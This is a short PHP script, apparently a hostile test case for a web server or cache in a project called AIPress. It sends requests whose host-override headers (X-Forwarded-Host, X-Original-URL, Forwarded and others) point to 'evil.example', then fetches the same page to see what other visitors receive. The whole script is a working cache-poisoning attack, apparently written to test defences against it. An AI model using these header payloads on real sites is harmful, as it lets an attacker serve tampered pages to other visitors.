<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

$victim = target()['victim']['host'];
$port = target()['port'];
$path = '/page-' . bin2hex(random_bytes(6)) . '/';
$poison = '';
foreach (['X-Forwarded-Host', 'X-Original-URL', 'X-Rewrite-URL', 'X-Host', 'Forwarded', 'Referer'] as $name) {
	$poison .= "$name: evil.example\n";
}
visit("GET $path HTTP/1.1\nHost: $victim:$port\n{$poison}Connection: close");
$maker = str_replace("\n", "\r\n", "GET $path HTTP/1.0\nHost: $victim:$port\nX-Forwarded-Proto: http\n$poison\n");
exchange('unix://' . target()['home'] . '/edge/tmp/maker.sock', $maker);
// What everybody else gets by then.
echo get($victim, $path);
